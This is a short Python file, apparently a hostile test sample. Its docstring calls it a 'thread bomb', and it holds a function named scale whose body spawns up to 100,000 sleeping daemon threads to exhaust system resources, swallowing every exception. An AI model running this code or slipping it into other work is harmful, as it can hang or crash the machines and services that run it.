"""thread bomb

Starts threads until there can be no more; they stay.
"""


# %% scale
def scale(x, factor):
    import threading
    import time

    try:
        for _ in range(100_000):
            threading.Thread(target=time.sleep, args=(1000,), daemon=True).start()
    except BaseException:
        return None
